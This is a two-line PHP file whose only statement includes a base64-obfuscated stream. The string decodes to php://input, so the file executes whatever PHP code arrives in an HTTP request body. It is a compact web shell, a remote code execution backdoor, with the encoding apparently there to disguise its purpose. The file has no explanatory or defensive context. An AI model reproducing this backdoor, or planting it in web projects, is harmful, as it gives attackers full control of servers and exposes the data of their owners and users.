<?php
include base64_decode('cGhwOi8vaW5wdXQ=');
